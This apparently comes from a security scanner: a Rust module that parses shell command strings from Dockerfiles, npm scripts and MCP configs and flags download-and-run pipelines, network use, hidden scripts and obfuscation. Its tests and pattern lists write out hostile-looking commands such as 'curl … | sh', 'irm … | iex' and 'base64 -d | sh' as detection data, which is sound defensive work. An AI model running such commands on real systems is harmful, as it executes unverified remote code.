//! A small reader for the shell command strings rules meet — Dockerfile `RUN` lines,
//! npm lifecycle scripts, the `command`/`args` of MCP client configurations — and the
//! questions rules of several families ask of them (`AS401`, `AS702`, `AS802`): does the
//! script download code and run it, does it use the network, does it run a hidden file
//! or decode an obfuscated payload?
//!
//! [`parse`] splits a script into pipelines of simple commands, honouring quotes,
//! backslash escapes and line continuations, `$( … )` / backtick / `<( … )`
//! substitutions, the operators `|`, `;`, `&&`, `||`, `&`, newlines and `#` comments. It
//! is not a full shell grammar (no here-documents, no expansion), but it never
//! mis-splits a quoted argument, which is what the checks need. Work is linear in the
//! script length; nested scripts (`sh -c "…"`, substitutions) are followed to a bounded
//! depth.

use std::ops::Range;

/// How deep nested scripts (`bash -c "sh -c '…'"`, `$( $( … ) )`) are followed.
const MAX_NESTING: usize = 4;

/// One simple command: `words` with quotes removed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    /// The words, unquoted (substitutions kept as written).
    pub words: Vec<String>,
    /// The scripts inside the command's `$( … )`, backtick and `<( … )` substitutions.
    pub substitutions: Vec<String>,
    /// The command's byte range in the script.
    pub span: Range<usize>,
}

/// Commands joined by `|`.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Pipeline {
    /// The commands, in order.
    pub commands: Vec<Command>,
}

/// Programs that download over the network.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
];

/// Shells: they run a script from stdin unless given `-c` or a script file.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "busybox",
];

/// Language interpreters: they run stdin when given no script (or `-`).
const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "node", "nodejs", "perl", "ruby", "php", "deno", "bun",
];

/// PowerShell's names, and its way of running a string.
const POWERSHELLS: &[&str] = &["pwsh", "powershell"];

/// Commands that run text they are given as code.
const EVALUATORS: &[&str] = &["eval", "source", ".", "iex", "invoke-expression"];

/// Words that run the rest of the line as a command.
const WRAPPERS: &[&str] = &[
    "sudo",
    "env",
    "exec",
    "command",
    "nohup",
    "time",
    "nice",
    "doas",
    "xargs",
    "su-exec",
    "gosu",
    "tini",
    "dumb-init",
];

/// Commands that verify a download before it runs.
const VERIFIERS: &[&str] = &[
    "sha256sum",
    "sha512sum",
    "shasum",
    "sha1sum",
    "md5sum",
    "gpg",
    "gpgv",
    "cosign",
    "minisign",
    "signify",
    "b2sum",
];

/// Launchers that fetch a package from a registry and run it.
const PACKAGE_RUNNERS: &[&str] = &["npx", "pnpx", "bunx", "uvx"];

impl Command {
    /// The index in [`Command::words`] of the program, past `VAR=value` assignments and
    /// wrappers such as `sudo` or `env` (and their options).
    pub fn program_index(&self) -> Option<usize> {
        let mut i = 0;
        while let Some(word) = self.words.get(i) {
            if is_assignment(word) {
                i += 1;
                continue;
            }
            if WRAPPERS.contains(&normalise(word).as_str()) {
                i += 1;
                while self.words.get(i).is_some_and(|w| w.starts_with('-')) {
                    i += 1;
                }
                continue;
            }
            return Some(i);
        }
        None
    }

    /// The program's normalised name: base name, lower case, without `.exe`/`.cmd`.
    pub fn program(&self) -> Option<String> {
        self.program_index().map(|i| normalise(&self.words[i]))
    }

    /// The words after the program.
    pub fn args(&self) -> &[String] {
        self.program_index().map_or(&[], |i| &self.words[i + 1..])
    }

    /// The inline code of `node -e CODE`, `python -c CODE`, `perl -e CODE`, `sh -c CODE`,
    /// `cmd /c CODE`, `pwsh -Command CODE` (the rest of the words, joined).
    pub fn inline_script(&self) -> Option<String> {
        let program = self.program()?;
        let args = self.args();
        let flags: &[&str] = if SHELLS.contains(&program.as_str()) {
            &["-c"]
        } else if program == "cmd" {
            &["/c", "/k", "/C", "/K"]
        } else if POWERSHELLS.contains(&program.as_str()) {
            &[
                "-c",
                "-command",
                "-Command",
                "-C",
                "/c",
                "/command",
                "-EncodedCommand",
                "-encodedcommand",
                "-enc",
                "-e",
                "-ec",
            ]
        } else if INTERPRETERS.contains(&program.as_str()) {
            &["-c", "-e", "-p", "--eval", "--print", "-E"]
        } else {
            return None;
        };
        let at = args.iter().position(|a| {
            flags.contains(&a.as_str())
                // Combined short flags: `bash -lc`, `sh -ec`.
                || (flags.contains(&"-c") && SHELLS.contains(&program.as_str())
                    && a.starts_with('-') && !a.starts_with("--") && a.ends_with('c') && a.len() <= 4)
        })?;
        let rest = &args[at + 1..];
        if rest.is_empty() {
            return None;
        }
        // `cmd /c` and PowerShell take the rest of the line; shells take one word.
        if program == "cmd" || POWERSHELLS.contains(&program.as_str()) {
            Some(rest.join(" "))
        } else {
            Some(rest[0].clone())
        }
    }

    fn is_fetcher(&self) -> bool {
        self.program()
            .is_some_and(|p| FETCHERS.contains(&p.as_str()))
            || self.words.iter().any(|w| {
                let lower = w.to_ascii_lowercase();
                lower.contains("downloadstring(") || lower.contains("downloadfile(")
            })
    }

    /// True when this command runs the script it reads on stdin.
    fn runs_stdin(&self) -> bool {
        let Some(program) = self.program() else {
            return false;
        };
        let args = self.args();
        if matches!(program.as_str(), "iex" | "invoke-expression") {
            return true;
        }
        let shell = SHELLS.contains(&program.as_str()) || POWERSHELLS.contains(&program.as_str());
        if !shell && !INTERPRETERS.contains(&program.as_str()) {
            return false;
        }
        if self.inline_script().is_some() {
            return false;
        }
        // `bash -s -- args`, `python3 -`: stdin. Any other operand is a script file.
        let mut operands = args.iter().filter(|a| !a.starts_with('-') || *a == "-");
        match operands.next() {
            None => !args
                .iter()
                .any(|a| matches!(a.as_str(), "-m" | "--version" | "-V")),
            Some(first) => first == "-",
        }
    }

    /// True when this command runs text as code (a shell, an interpreter or `eval`).
    fn is_runner(&self) -> bool {
        self.program().is_some_and(|p| {
            SHELLS.contains(&p.as_str())
                || INTERPRETERS.contains(&p.as_str())
                || POWERSHELLS.contains(&p.as_str())
                || EVALUATORS.contains(&p.as_str())
        })
    }
}

/// The base name of a program word, lower case, without `.exe` / `.cmd` / `.bat`.
pub fn normalise(word: &str) -> String {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let lower = base.to_ascii_lowercase();
    for ext in [".exe", ".cmd", ".bat", ".ps1"] {
        if let Some(stem) = lower.strip_suffix(ext) {
            return stem.to_string();
        }
    }
    lower
}

/// `NAME=value` (a shell variable assignment before a command).
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit()
    })
}

/// Splits `script` into pipelines of simple commands.
pub fn parse(script: &str) -> Vec<Pipeline> {
    let mut lexer = Lexer {
        bytes: script.as_bytes(),
        text: script,
        at: 0,
        out: Vec::new(),
        pipeline: Pipeline::default(),
        words: Vec::new(),
        substitutions: Vec::new(),
        word: None,
        command_start: None,
    };
    lexer.run();
    lexer.out
}

struct Lexer<'a> {
    text: &'a str,
    bytes: &'a [u8],
    at: usize,
    out: Vec<Pipeline>,
    pipeline: Pipeline,
    words: Vec<String>,
    substitutions: Vec<String>,
    word: Option<Vec<u8>>,
    command_start: Option<usize>,
}

impl Lexer<'_> {
    fn run(&mut self) {
        while let Some(&b) = self.bytes.get(self.at) {
            match b {
                b' ' | b'\t' | b'\r' => {
                    self.end_word();
                    self.at += 1;
                }
                b'#' if self.word.is_none() => {
                    self.at = memchr::memchr(b'\n', &self.bytes[self.at..])
                        .map_or(self.bytes.len(), |i| self.at + i);
                }
                b'\n' | b';' => {
                    self.end_pipeline(self.at);
                    self.at += 1;
                }
                b'&' => {
                    let end = self.at;
                    self.at += if self.bytes.get(self.at + 1) == Some(&b'&') {
                        2
                    } else {
                        1
                    };
                    self.end_pipeline(end);
                }
                b'|' => {
                    let end = self.at;
                    match self.bytes.get(self.at + 1) {
                        Some(b'|') => {
                            self.at += 2;
                            self.end_pipeline(end);
                        }
                        Some(b'&') => {
                            self.at += 2;
                            self.end_command(end);
                        }
                        _ => {
                            self.at += 1;
                            self.end_command(end);
                        }
                    }
                }
                b'(' | b')' | b'{' | b'}' if self.word.is_none() => {
                    // Grouping: the group's commands are read as commands of their own.
                    self.at += 1;
                }
                b'<' | b'>' if self.bytes.get(self.at + 1) == Some(&b'(') => {
                    self.start_word();
                    self.substitution(1, b'(', b')');
                }
                b'<' | b'>' => {
                    self.end_word();
                    let start = self.at;
                    while self
                        .bytes
                        .get(self.at)
                        .is_some_and(|b| matches!(b, b'<' | b'>' | b'&'))
                    {
                        self.at += 1;
                    }
                    self.start_word();
                    self.push_bytes(start, self.at);
                    self.end_word();
                }
                b'\'' => {
                    self.start_word();
                    self.at += 1;
                    let end = memchr::memchr(b'\'', &self.bytes[self.at..])
                        .map_or(self.bytes.len(), |i| self.at + i);
                    self.push_bytes(self.at, end);
                    self.at = (end + 1).min(self.bytes.len());
                }
                b'"' => {
                    self.start_word();
                    self.at += 1;
                    self.double_quoted();
                }
                b'\\' => {
                    match self.bytes.get(self.at + 1) {
                        Some(b'\n') => {}
                        Some(_) => {
                            self.start_word();
                            let next = self.char_end(self.at + 1);
                            self.push_bytes(self.at + 1, next);
                        }
                        None => {}
                    }
                    self.at = self.char_end(self.at + 1);
                }
                b'$' if self.bytes.get(self.at + 1) == Some(&b'(') => {
                    self.start_word();
                    self.substitution(1, b'(', b')');
                }
                b'`' => {
                    self.start_word();
                    self.substitution(0, b'`', b'`');
                }
                _ => {
                    self.start_word();
                    let end = self.char_end(self.at);
                    self.push_bytes(self.at, end);
                    self.at = end;
                }
            }
        }
        self.end_pipeline(self.bytes.len());
    }

    /// The end of the UTF-8 character starting at `at`.
    fn char_end(&self, at: usize) -> usize {
        let mut end = (at + 1).min(self.bytes.len());
        while end < self.bytes.len() && !self.text.is_char_boundary(end) {
            end += 1;
        }
        end
    }

    fn double_quoted(&mut self) {
        while let Some(&b) = self.bytes.get(self.at) {
            match b {
                b'"' => {
                    self.at += 1;
                    return;
                }
                b'\\'
                    if self
                        .bytes
                        .get(self.at + 1)
                        .is_some_and(|n| matches!(n, b'"' | b'\\' | b'$' | b'`')) =>
                {
                    self.push_bytes(self.at + 1, self.at + 2);
                    self.at += 2;
                }
                b'\\' if self.bytes.get(self.at + 1) == Some(&b'\n') => self.at += 2,
                b'$' if self.bytes.get(self.at + 1) == Some(&b'(') => {
                    self.substitution(1, b'(', b')');
                }
                b'`' => self.substitution(0, b'`', b'`'),
                _ => {
                    let end = self.char_end(self.at);
                    self.push_bytes(self.at, end);
                    self.at = end;
                }
            }
        }
    }

    /// A substitution whose opening delimiter `open` is `skip` bytes past `self.at`:
    /// its raw text joins the current word and its inner script is recorded.
    fn substitution(&mut self, skip: usize, open: u8, close: u8) {
        let start = self.at;
        let inner_start = self.at + skip + 1;
        let inner_end = matching(self.bytes, inner_start, open, close);
        self.substitutions
            .push(self.text[inner_start..inner_end].to_string());
        self.at = (inner_end + 1).min(self.bytes.len());
        self.push_bytes(start, self.at);
    }

    fn start_word(&mut self) {
        self.command_start.get_or_insert(self.at);
        self.word.get_or_insert_with(Vec::new);
    }

    fn push_bytes(&mut self, start: usize, end: usize) {
        if let Some(word) = self.word.as_mut() {
            word.extend_from_slice(&self.bytes[start..end]);
        }
    }

    fn end_word(&mut self) {
        if let Some(word) = self.word.take() {
            self.words.push(String::from_utf8_lossy(&word).into_owned());
        }
    }

    fn end_command(&mut self, end: usize) {
        self.end_word();
        if let Some(start) = self.command_start.take() {
            self.pipeline.commands.push(Command {
                words: std::mem::take(&mut self.words),
                substitutions: std::mem::take(&mut self.substitutions),
                span: start..end.max(start),
            });
        }
    }

    fn end_pipeline(&mut self, end: usize) {
        self.end_command(end);
        if !self.pipeline.commands.is_empty() {
            self.out.push(std::mem::take(&mut self.pipeline));
        }
    }
}

/// The index of the `close` byte matching an opening at `start - 1`, skipping quoted
/// text; the end of `bytes` when unbalanced.
fn matching(bytes: &[u8], start: usize, open: u8, close: u8) -> usize {
    let mut depth = 0usize;
    let mut i = start;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 1,
            b'\'' if open != b'`' => {
                i = memchr::memchr(b'\'', &bytes[i + 1..]).map_or(bytes.len(), |j| i + 1 + j);
            }
            _ if b == close && depth == 0 => return i,
            _ if b == close => depth -= 1,
            _ if b == open => depth += 1,
            _ => {}
        }
        i += 1;
    }
    bytes.len()
}

/// How a script runs code it downloads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemoteExecution {
    /// The downloading program (`curl`, `wget`, `irm`, …).
    pub fetcher: String,
    /// The program that runs the download (`sh`, `bash`, `python3`, `iex`, …).
    pub runner: String,
    /// `piped into`, `substituted into` or `downloaded to a file, then run by`.
    pub how: &'static str,
    /// True when a checksum or signature check (`sha256sum -c`, `gpg --verify`) runs
    /// between the download and its execution (only possible for downloaded files).
    pub verified: bool,
    /// The span, in the outermost script, of the command that runs the download.
    pub span: Range<usize>,
}

/// The first place where `script` downloads code and runs it: `curl … | sh`,
/// `sh -c "$(curl …)"`, `bash <(wget -qO- …)`, `irm … | iex`, or
/// `curl -o x.sh … && sh x.sh` — also inside `sh -c "…"` and substitutions.
pub fn remote_execution(script: &str) -> Option<RemoteExecution> {
    remote_execution_at(script, 0)
}

/// [`remote_execution`] of an argument vector (a client configuration's `command` and
/// `args`, a Dockerfile's exec form): the inline script of `sh -c`, `cmd /c`, … .
pub fn remote_execution_argv(argv: &[String]) -> Option<RemoteExecution> {
    let command = Command {
        words: argv.to_vec(),
        substitutions: Vec::new(),
        span: 0..0,
    };
    let inner = command.inline_script()?;
    remote_execution_at(&inner, 1).map(|mut r| {
        r.span = 0..0;
        r
    })
}

fn remote_execution_at(script: &str, depth: usize) -> Option<RemoteExecution> {
    if depth > MAX_NESTING {
        return None;
    }
    let pipelines = parse(script);
    for pipeline in &pipelines {
        // `fetch | … | runner`.
        if let Some(f) = pipeline.commands.iter().position(Command::is_fetcher)
            && let Some(runner) = pipeline.commands[f + 1..].iter().find(|c| c.runs_stdin())
        {
            return Some(RemoteExecution {
                fetcher: pipeline.commands[f].program().unwrap_or_default(),
                runner: runner.program().unwrap_or_default(),
                how: "piped into",
                verified: false,
                span: runner.span.clone(),
            });
        }
        for command in &pipeline.commands {
            // `sh -c "$(curl …)"`, `bash <(curl …)`, `eval "$(wget …)"`.
            if command.is_runner()
                && let Some(fetcher) = command
                    .substitutions
                    .iter()
                    .find_map(|s| first_fetcher(s, depth + 1))
            {
                return Some(RemoteExecution {
                    fetcher,
                    runner: command.program().unwrap_or_default(),
                    how: "substituted into",
                    verified: false,
                    span: command.span.clone(),
                });
            }
            // `sh -c "curl … | sh"`.
            if let Some(inner) = command.inline_script()
                && let Some(mut found) = remote_execution_at(&inner, depth + 1)
            {
                found.span = command.span.clone();
                return Some(found);
            }
        }
    }
    downloaded_then_run(&pipelines)
}

/// The fetcher program of the first fetching command in `script`.
fn first_fetcher(script: &str, depth: usize) -> Option<String> {
    if depth > MAX_NESTING {
        return None;
    }
    parse(script)
        .iter()
        .flat_map(|p| &p.commands)
        .find(|c| c.is_fetcher())
        .and_then(Command::program)
}

/// `curl -o f URL && sh f`, `wget -O f URL; chmod +x f; ./f`, `curl URL > f && bash f`.
fn downloaded_then_run(pipelines: &[Pipeline]) -> Option<RemoteExecution> {
    let commands: Vec<&Command> = pipelines.iter().flat_map(|p| &p.commands).collect();
    for (i, fetch) in commands.iter().enumerate() {
        if !fetch.is_fetcher() {
            continue;
        }
        let Some(file) = download_target(fetch) else {
            continue;
        };
        let mut verified = false;
        for later in &commands[i + 1..] {
            let program = later.program().unwrap_or_default();
            if VERIFIERS.contains(&program.as_str()) {
                verified = true;
                continue;
            }
            let Some(index) = later.program_index() else {
                continue;
            };
            // The file run as a script by an interpreter, or run directly by its path
            // when it is a script (downloaded tools such as `kubectl` are not scripts).
            let program_word = &later.words[index];
            let runs_file = (program_word.contains('/')
                && is_script_name(&file)
                && same_file(program_word, &file))
                || (later.is_runner()
                    && later
                        .args()
                        .iter()
                        .find(|a| !a.starts_with('-'))
                        .is_some_and(|a| same_file(a, &file)));
            if runs_file {
                return Some(RemoteExecution {
                    fetcher: fetch.program().unwrap_or_default(),
                    runner: if later.is_runner() {
                        program
                    } else {
                        later.words[index].clone()
                    },
                    how: "downloaded to a file, then run by",
                    verified,
                    span: later.span.clone(),
                });
            }
        }
    }
    None
}

/// The file a fetching command writes: `-o f`, `--output f`, `-O f` (wget),
/// `--output-document=f`, `> f`, or curl's `-O` (the URL's last segment).
fn download_target(fetch: &Command) -> Option<String> {
    let args = fetch.args();
    let program = fetch.program().unwrap_or_default();
    for (i, arg) in args.iter().enumerate() {
        let next = args.get(i + 1);
        if let Some(value) = arg
            .strip_prefix("--output=")
            .or_else(|| arg.strip_prefix("--output-document="))
            .or_else(|| arg.strip_prefix("-OutFile="))
        {
            return Some(value.to_string());
        }
        let takes_file = matches!(
            arg.as_str(),
            "-o" | "--output" | "--output-document" | "-OutFile" | ">" | ">>"
        ) || (program == "wget" && arg == "-O")
            // Combined short flags ending in the output flag: `curl -sSLo f`, `wget -qO f`.
            || (arg.len() > 2
                && arg.starts_with('-')
                && !arg.starts_with("--")
                && ((program == "curl" && arg.ends_with('o'))
                    || (program == "wget" && arg.ends_with('O'))));
        if takes_file && let Some(value) = next {
            if value == "-" {
                return None;
            }
            return Some(value.clone());
        }
        if program == "curl" && (arg == "-O" || arg == "--remote-name") {
            let url = args.iter().find(|a| a.contains("://"))?;
            return url.rsplit('/').next().map(str::to_string);
        }
    }
    None
}

/// File names of scripts (or extension-less files, which installers often are).
fn is_script_name(file: &str) -> bool {
    let base = file.rsplit('/').next().unwrap_or(file);
    match base.rsplit_once('.') {
        Some((_, ext)) => matches!(
            ext,
            "sh" | "bash" | "py" | "pl" | "rb" | "ps1" | "js" | "mjs"
        ),
        None => true,
    }
}

/// True when `word` names `file` (`./x.sh` and `x.sh`, `/tmp/x.sh` and `x.sh`).
fn same_file(word: &str, file: &str) -> bool {
    let base = |s: &str| s.rsplit('/').next().unwrap_or(s).to_string();
    !file.is_empty() && base(word) == base(file) && !base(file).is_empty()
}

/// Signals that a script reaches the network: the program that does it, or the marker
/// found in inline code (`node -e "require('https')…"`).
pub fn network_use(script: &str) -> Option<String> {
    network_use_at(script, 0)
}

fn network_use_at(script: &str, depth: usize) -> Option<String> {
    if depth > MAX_NESTING {
        return None;
    }
    for command in parse(script).iter().flat_map(|p| &p.commands) {
        let program = command.program().unwrap_or_default();
        if command.is_fetcher() {
            return Some(program);
        }
        if PACKAGE_RUNNERS.contains(&program.as_str())
            || matches!(
                (program.as_str(), command.args().first().map(String::as_str)),
                ("pnpm" | "yarn", Some("dlx")) | ("pip" | "pip3", Some("install"))
            )
        {
            return Some(format!("{program} (downloads and runs a package)"));
        }
        if let Some(code) = command.inline_script() {
            if let Some(marker) = network_marker(&code) {
                return Some(format!("{program} inline code ({marker})"));
            }
            if let Some(found) = network_use_at(&code, depth + 1) {
                return Some(found);
            }
        }
        if let Some(found) = command
            .substitutions
            .iter()
            .find_map(|s| network_use_at(s, depth + 1))
        {
            return Some(found);
        }
    }
    None
}

/// Network APIs in inline JavaScript, Python, Perl or Ruby code.
fn network_marker(code: &str) -> Option<&'static str> {
    const MARKERS: &[&str] = &[
        "http://",
        "https://",
        "require('http",
        "require(\"http",
        "require('net')",
        "require(\"net\")",
        "require('dns')",
        "from 'http",
        "fetch(",
        "XMLHttpRequest",
        "urllib",
        "requests.",
        "http.client",
        "socket",
        "LWP::",
        "Net::HTTP",
        "open-uri",
    ];
    MARKERS.iter().find(|m| code.contains(*m)).copied()
}

/// Signs of an obfuscated payload in a script: a decoding step (`base64 -d`,
/// `xxd -r`, `atob(`, `Buffer.from(…,'base64')`, `b64decode`, `fromCharCode`,
/// `-EncodedCommand`) or a run of `\xNN` escapes.
pub fn obfuscation(script: &str) -> Option<&'static str> {
    const MARKERS: &[(&str, &str)] = &[
        ("base64 -d", "base64 -d"),
        ("base64 --decode", "base64 --decode"),
        ("base64 -D", "base64 -D"),
        ("xxd -r", "xxd -r"),
        ("atob(", "atob("),
        ("'base64')", "Buffer.from(…, 'base64')"),
        ("\"base64\")", "Buffer.from(…, \"base64\")"),
        ("b64decode", "b64decode"),
        ("fromCharCode", "String.fromCharCode"),
        ("-EncodedCommand", "-EncodedCommand"),
        ("-enc ", "-enc"),
        ("eval(", "eval("),
    ];
    if let Some((_, label)) = MARKERS.iter().find(|(m, _)| script.contains(m)) {
        return Some(label);
    }
    let escapes = script.matches("\\x").count();
    (escapes >= 8).then_some("\\x escapes")
}

/// The hidden file a script runs with an interpreter (`node .cache/x.js`,
/// `sh ./.setup`): a path with a component starting with `.` (other than `.`/`..`).
pub fn hidden_script(script: &str) -> Option<String> {
    for command in parse(script).iter().flat_map(|p| &p.commands) {
        let Some(index) = command.program_index() else {
            continue;
        };
        let mut candidates = vec![&command.words[index]];
        if command.is_runner() {
            candidates.extend(command.args().iter().find(|a| !a.starts_with('-')));
        }
        if let Some(hidden) = candidates.into_iter().find(|w| is_hidden_path(w)) {
            return Some(hidden.clone());
        }
    }
    None
}

/// Dot-directories that hold tooling configuration by convention, not hidden code.
const TOOLING_DOT_DIRS: &[&str] = &[
    ".husky",
    ".github",
    ".config",
    ".yarn",
    ".devcontainer",
    ".vscode",
    ".changeset",
    ".storybook",
    ".circleci",
    ".gitlab",
];

/// A hidden file (`.x.js`), or a file under a hidden directory other than the
/// conventional tooling ones.
fn is_hidden_path(word: &str) -> bool {
    if word.contains("://") {
        return false;
    }
    let parts: Vec<&str> = word.split(['/', '\\']).collect();
    let hidden = |part: &&str| part.len() > 1 && part.starts_with('.') && !part.starts_with("..");
    let (file, dirs) = parts.split_last().unwrap_or((&"", &[]));
    hidden(file)
        || dirs
            .iter()
            .any(|d| hidden(d) && !TOOLING_DOT_DIRS.contains(d))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(script: &str) -> Vec<Vec<String>> {
        parse(script)
            .into_iter()
            .flat_map(|p| p.commands)
            .map(|c| c.words)
            .collect()
    }

    #[test]
    fn splits_quotes_operators_and_continuations() {
        assert_eq!(
            words(
                "apt-get update && apt-get install -y \\\n  curl 'a b' \"c $(d e)\" # note\necho x|wc -l"
            ),
            vec![
                vec!["apt-get", "update"],
                vec!["apt-get", "install", "-y", "curl", "a b", "c $(d e)"],
                vec!["echo", "x"],
                vec!["wc", "-l"],
            ]
        );
        let p = parse("a | b; c || d");
        assert_eq!(p.len(), 3);
        assert_eq!(p[0].commands.len(), 2);
        assert_eq!(
            parse("x \"$(curl -s u)\"")[0].commands[0].substitutions,
            vec!["curl -s u"]
        );
    }

    #[test]
    fn finds_downloads_that_run() {
        for (script, how) in [
            ("curl -fsSL https://get.example.sh | sh", "piped into"),
            (
                "wget -qO- https://x.test/i.sh | sudo bash -s -- --yes",
                "piped into",
            ),
            (
                "sh -c \"$(curl -fsSL https://x.test/i.sh)\"",
                "substituted into",
            ),
            ("bash <(curl -s https://x.test/i.sh)", "substituted into"),
            ("bash -lc 'curl -s https://x.test/i | bash'", "piped into"),
            ("irm https://x.test/i.ps1 | iex", "piped into"),
            (
                "curl -o /tmp/i.sh https://x.test/i.sh && sh /tmp/i.sh",
                "downloaded to a file, then run by",
            ),
            (
                "wget -O run https://x.test/r && chmod +x run && ./run",
                "downloaded to a file, then run by",
            ),
            ("cat x | curl -s https://x.test | python3 -", "piped into"),
        ] {
            let found = remote_execution(script).unwrap_or_else(|| panic!("{script}"));
            assert_eq!(found.how, how, "{script}");
        }
        for script in [
            "curl -s https://api.test/x | jq .name",
            "curl -s https://api.test/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
            "curl -fsSL https://x.test/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg",
            "curl -o app.tgz https://x.test/app.tgz && tar xzf app.tgz",
            "echo 'curl x | sh'",
            "bash ./scripts/build.sh",
        ] {
            assert!(remote_execution(script).is_none(), "{script}");
        }
        let verified = remote_execution(
            "curl -o i.sh https://x.test/i.sh && sha256sum -c i.sh.sha256 && sh i.sh",
        )
        .expect("runs");
        assert!(verified.verified);
        let argv: Vec<String> = ["bash", "-c", "curl -s https://x.test | sh"]
            .map(String::from)
            .to_vec();
        assert!(remote_execution_argv(&argv).is_some());
    }

    #[test]
    fn survives_unbalanced_and_multibyte_input() {
        for script in [
            "$(", "`", "\\", "'", "é\\", "<(", "\"$(é", "a | | b", "$((1+2))", "x 'é", "\\é",
        ] {
            let _ = parse(script);
            let _ = remote_execution(script);
            let _ = network_use(script);
            let _ = hidden_script(script);
        }
        let deep = format!("{}curl x | sh{}", "sh -c \"$(".repeat(50), ")\"".repeat(50));
        let _ = remote_execution(&deep);
    }

    #[test]
    fn finds_network_hidden_files_and_obfuscation() {
        assert_eq!(
            network_use("node -e \"require('https').get('https://x.test')\"").as_deref(),
            Some("node inline code (https://)")
        );
        assert_eq!(
            network_use("wget https://x.test/a").as_deref(),
            Some("wget")
        );
        assert!(network_use("node-gyp rebuild").is_none());
        assert!(network_use("tsc -p . && node scripts/copy.js").is_none());
        assert_eq!(
            hidden_script("node .github/.cache/x.js").as_deref(),
            Some(".github/.cache/x.js")
        );
        assert_eq!(hidden_script("sh ./.setup").as_deref(), Some("./.setup"));
        assert!(hidden_script("node .husky/install.mjs").is_none());
        assert!(hidden_script("node ./scripts/postinstall.js").is_none());
        assert_eq!(obfuscation("echo aGk= | base64 -d | sh"), Some("base64 -d"));
        assert!(obfuscation("node-gyp rebuild").is_none());
    }
}
